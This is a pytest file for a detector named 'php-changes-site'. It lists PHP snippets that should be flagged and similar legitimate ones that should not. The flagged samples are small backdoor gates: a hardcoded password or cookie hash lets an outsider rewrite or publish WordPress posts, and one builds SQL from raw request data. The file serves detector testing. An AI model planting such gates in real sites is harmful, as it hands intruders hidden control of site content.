"""Pages of the site that a fixed word opens. The samples are ours, and inert."""

from __future__ import annotations

import pytest

FOUND = [
    (
        "if (isset($_REQUEST['password']) && $_REQUEST['password'] == "
        "'5f4dcc3b5aa765d61d8327deb882cf00') { switch ($_REQUEST['action']) { case "
        "'x': $wpdb->query('UPDATE `' . $wpdb->prefix . 'posts` SET `post_content` = "
        "\"' . $c . stripslashes($_REQUEST['data']) . '\" WHERE `ID` = 1'); } }"
    ),
    (
        "if (md5($_COOKIE['k']) === 'd41d8cd98f00b204e9800998ecf8427e') { "
        'mysql_query("UPDATE wp_posts SET post_content = CONCAT(post_content, \'" . '
        "$_POST['h'] . \"')\"); }"
    ),
    (
        "if ($_POST['pw'] == 'x82hf9') { wp_update_post(['ID' => $_POST['id'], "
        "'post_content' => $_POST['html']]); die; }"
    ),
    (
        "if (@$_POST['key'] != 'x82hf9') exit; require 'wp-load.php'; "
        "wp_insert_post(array('post_title' => $_POST['t'], 'post_content' => "
        "$_POST['c'], 'post_status' => 'publish'));"
    ),
]

LEFT = [
    (
        "if (!isset($_POST['nonce']) || !wp_verify_nonce($_POST['nonce'], 'x')) "
        "die; update_option('my', sanitize_text_field($_POST['my']));"
    ),
    (
        "if ($_POST['action'] == 'save' && current_user_can('edit_posts')) { "
        "wp_update_post(['ID' => (int) $_POST['id'], 'post_content' => $_POST['c']]); }"
    ),
    ("if ($_POST['action'] == 'create_page') { wp_insert_post(['post_title' => $_POST['t']]); }"),
    ("if ($_GET['key'] != get_option('cron_key')) die; update_option('last_run', $_GET['t']);"),
    (
        "if ($_POST['api_key'] !== API_KEY) { http_response_code(403); exit; } "
        "$wpdb->query(\"UPDATE wp_posts SET post_content = '\" . esc_sql($_POST['c']) . "
        '"\'");'
    ),
    (
        "if ($_POST['type'] == 'page') { $wpdb->query(\"UPDATE {$wpdb->posts} SET "
        "post_status = 'draft' WHERE ID = \" . (int) $_POST['id']); }"
    ),
    (
        "if ($_POST['hash'] == md5($secret . $_POST['id'])) { $db->query(\"UPDATE "
        "orders SET paid = 1 WHERE id = \" . (int) $_POST['id']); }"
    ),
]


@pytest.mark.parametrize("source", FOUND)
def test_points_at(sure, source):
    assert "php-changes-site" in sure(source)


@pytest.mark.parametrize("source", LEFT)
def test_leaves_alone(sure, source):
    assert sure(source) == set()
